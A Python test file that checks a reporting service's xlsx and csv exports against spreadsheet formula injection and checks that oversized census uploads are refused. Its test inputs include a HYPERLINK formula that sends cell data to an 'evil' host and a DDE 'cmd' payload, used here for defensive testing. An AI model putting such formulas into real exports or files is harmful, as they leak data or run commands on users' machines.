"""Limits on hostile input and output: formula injection neutralised in every export (xlsx/csv)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from services.registry.domain import census
from services.reporting.adapters.exports import SECTIONS, to_xlsx
from shared.spreadsheets import neutralise

HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_is_prefixed_with_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "13800138000", "", "a=b", 42, None])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def _report(place: str, rule: str) -> dict:
    figures = {}
    for _, section, rows, breakdowns in SECTIONS:
        figures[section] = {key: 0 for _, key in rows} | {key: {} for _, key in breakdowns}
    figures["visits"]["missed_by_rule"] = {rule: {"windows": 1, "required": 2, "done": 1}}
    figures["children"]["by_type"] = {place: 3}
    place_row = {"place": place, "children": 1, "archive_rate": 1.0, "paired_children": 1, "compliance": 1.0,
                 "no_contact_30_days": 0, "unguarded": 0, "out_of_school": 0}
    return {"quarter": "2026Q1", "region": "410523", "previous_quarter": "2025Q4", "headlines": [], "figures": figures,
            "places": [place_row]}


def _texts(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]


def test_the_quarterly_xlsx_writes_place_and_rule_names_as_text():
    cells = _texts(to_xlsx(_report("=cmd|' /C calc'!A0", "@rule")))
    assert "'=cmd|' /C calc'!A0" in cells and "'@rule" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_the_census_report_writes_uploaded_cells_as_text():
    roster = census.Roster(("姓名,性别,出生日期,户籍状况,村（社区）区划代码,留守类型\n"
                            "=1+1,女,2015-03-02,有户籍,410523100201,父母双方外出务工\n").encode(), frozenset())
    cells = _texts(census.report(roster, {2: [census.problem("姓名", "name", "x", "错", "wrong")]}))
    assert "'=1+1" in cells and "=1+1" not in cells


async def test_a_roster_over_the_upload_limit_is_refused_with_413_and_nothing_is_queued(settings, engines, monkeypatch):
    from sqlalchemy import text

    from services.registry.app import SPEC as REGISTRY
    from services.registry.entrypoints import imports
    from tests.support import running_app, token

    monkeypatch.setattr(imports, "MAX_UPLOAD_BYTES", 1000)  # read at each upload: 100 MB in production
    async with engines["registry"].connect() as conn:
        before = await conn.scalar(text("SELECT count(*) FROM census_imports"))
    async with running_app(REGISTRY, settings) as (_, client):
        r = await client.post("/api/v1/imports/census", files={"file": ("roster.csv", b"x" * 1001)}, headers=token(settings))
    assert r.status_code == 413 and "too large" in r.json()["detail"]["message_en"], r.text
    async with engines["registry"].connect() as conn:
        assert await conn.scalar(text("SELECT count(*) FROM census_imports")) == before
